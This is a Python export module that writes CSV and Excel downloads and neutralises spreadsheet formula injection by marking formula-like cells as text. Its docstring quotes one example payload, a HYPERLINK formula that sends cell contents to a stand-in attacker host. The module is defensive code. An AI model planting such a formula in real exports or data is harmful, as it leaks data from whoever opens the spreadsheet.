"""Exports: the one place that writes CSV (or any file a spreadsheet opens) for people to download.

A cell that starts with = + - @ (or a tab or a carriage return, which spreadsheets skip before
reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets: a customer who
writes ``=HYPERLINK("http://evil.example/?"&A1, "Cliquez")`` in a complaint would have it run
on the quality manager's computer. :func:`cell` writes such text with a leading apostrophe, which
spreadsheets show as text and do not display; numbers stay numbers. Every export goes through
:func:`write_csv` (tests/test_private_files.py fails on any other ``csv.writer`` in the code), or
:func:`write_xlsx` for a workbook (openpyxl): there every text is a text cell, never a formula (openpyxl
would store a text starting with "=" as one), and one that looks like a formula also gets Excel's
"quote prefix", so that editing the cell keeps it text; numbers are numbers and times are dates.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from typing import BinaryIO, TextIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

#: What a spreadsheet reads as the start of a formula, full-width forms included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cell(value: object) -> str:
    """``value`` as a cell that a spreadsheet shows and never runs."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return str(value)  # a number, negative or not, is data
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(out: TextIO, header: Sequence[object], rows: Iterable[Sequence[object]]) -> None:
    """Write ``header`` then ``rows`` to ``out`` as CSV (UTF-8 text, comma separated), every cell neutralised."""
    writer = csv.writer(out)
    writer.writerow([cell(name) for name in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: object) -> WriteOnlyCell:
    """``value`` as a workbook cell: a number, a date (UTC, as the CSV's) or text that is never run."""
    if isinstance(value, bool):
        value = "yes" if value else "no"
    if value is None or isinstance(value, int | float):
        return WriteOnlyCell(sheet, value=value)
    if isinstance(value, datetime):
        return WriteOnlyCell(sheet, value=value.astimezone(UTC).replace(tzinfo=None) if value.tzinfo else value)
    if isinstance(value, date):
        return WriteOnlyCell(sheet, value=value)
    text = str(value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # text, even when it starts with "=" (which openpyxl would store as a formula)
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True  # and it stays text when someone edits it in the spreadsheet
    return cell


def write_xlsx(out: BinaryIO, header: Sequence[object], rows: Iterable[Sequence[object]], *,
               sheet: str = "Export") -> None:
    """Write ``header`` then ``rows`` to ``out`` as an Excel workbook of one sheet, every text cell
    neutralised (:func:`_xlsx_cell`); rows are streamed (openpyxl's write-only mode)."""
    book = Workbook(write_only=True)
    page = book.create_sheet(sheet[:31])
    page.append([_xlsx_cell(page, str(name)) for name in header])
    for row in rows:
        page.append([_xlsx_cell(page, value) for value in row])
    book.save(out)


#: What a download is sent as, by format.
CONTENT_TYPES = {"csv": "text/csv; charset=utf-8",
                 "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


@dataclass(frozen=True)
class Download:
    """A file for people to download, and how many rows it holds (for the journal)."""

    body: bytes
    content_type: str
    filename: str
    rows: int


def download(fmt: str, header: Sequence[object], rows: Iterable[Sequence[object]], *, sheet: str,
             filename: str) -> Download:
    """``header`` then ``rows`` as ``fmt``: "xlsx" (:func:`write_xlsx`, one sheet named ``sheet``) or
    "csv" (:func:`write_csv`, UTF-8 with a BOM, so that Excel reads accents right), named
    ``<filename>.<fmt>``."""
    count = 0

    def counted() -> Iterator[Sequence[object]]:
        nonlocal count
        for row in rows:
            count += 1
            yield row

    if fmt == "xlsx":
        binary = io.BytesIO()
        write_xlsx(binary, header, counted(), sheet=sheet)
        body = binary.getvalue()
    else:
        text = io.StringIO()
        write_csv(text, header, counted())
        body = ("\ufeff" + text.getvalue()).encode("utf-8")
    return Download(body, CONTENT_TYPES[fmt], f"{filename}.{fmt}", count)
